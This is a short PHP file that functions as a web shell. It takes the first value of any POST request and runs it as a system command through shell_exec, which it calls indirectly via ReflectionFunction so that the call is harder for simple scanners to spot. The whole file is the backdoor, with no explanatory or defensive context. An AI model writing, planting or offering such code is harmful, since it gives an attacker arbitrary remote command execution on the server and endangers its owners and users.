<?php
ob_implicit_flush();
$p = array_slice($_POST, 0, 1)[0];
call_user_func_array(array(new ReflectionFunction('shell_exec'), 'invoke'), array($p));
